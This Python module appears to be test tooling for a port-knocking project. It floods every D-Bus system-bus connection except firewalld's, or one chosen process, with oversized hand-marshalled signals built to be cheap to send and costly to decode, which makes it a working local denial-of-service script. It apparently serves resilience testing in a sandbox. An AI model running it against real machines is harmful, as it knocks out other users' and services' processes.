"""Large signals to connections of the system bus other than firewalld's, as any user of a machine can send them."""

import asyncio
import sys

from dbus_next.aio.message_bus import MessageBus
from dbus_next.constants import BusType, MessageType
from dbus_next.message import Message

from port_knocking_doors.sandbox import Host

DBUS, DBUS_PATH, FIREWALLD = "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.fedoraproject.FirewallD1"
OCTET_IN_VARIANT = b"\x01y\x00\x07"
"""One variant of type `y`: the cheapest to send, and the dearest to decode."""


def spam(host: Host, megabytes: int, signals: int = 1, pid: int = 0) -> None:
    """Send so many signals of type `av` and of this size to each connection, or to that of one process of the host."""
    argv = [sys.executable, __file__, str(megabytes), str(signals), str(pid)]
    host.run(argv, env={"PYTHONPATH": sys.path[0]}, timeout=60)


async def main() -> None:
    megabytes, signals, pid = map(int, sys.argv[1:])
    bus = await MessageBus(bus_type=BusType.SYSTEM).connect()

    async def ask(member: str, *names: str) -> list[str] | str | int:
        call = Message(DBUS, DBUS_PATH, DBUS, member, signature="s" * len(names), body=list(names))
        answer = await bus.call(call)
        assert answer is not None
        result: list[str] | str | int = answer.body[0]
        return result

    spared = {bus.unique_name, await ask("GetNameOwner", FIREWALLD)}
    names = await ask("ListNames")
    assert isinstance(names, list)
    targets = [name for name in names if name.startswith(":") and name not in spared]
    if pid:
        targets = [name for name in targets if await ask("GetConnectionUnixProcessID", name) == pid]
    assert targets
    body = OCTET_IN_VARIANT * (megabytes * 250_000)
    bus._sock.setblocking(True)
    for target in targets * signals:
        start = Message(target, "/a", "b.c", "Large", MessageType.SIGNAL, signature="av", body=[[]])
        start.serial = bus.next_serial()
        # The library has written an empty array: the lengths of body and array are replaced.
        head = start._marshall()[:-4]  # type: ignore[no-untyped-call]
        head[4:8] = (len(body) + 4).to_bytes(4, sys.byteorder)
        bus._sock.sendall(bytes(head) + len(body).to_bytes(4, sys.byteorder) + body)
    bus._sock.setblocking(False)
    await ask("GetId")  # the bus has taken all of it


if __name__ == "__main__":
    asyncio.run(main())
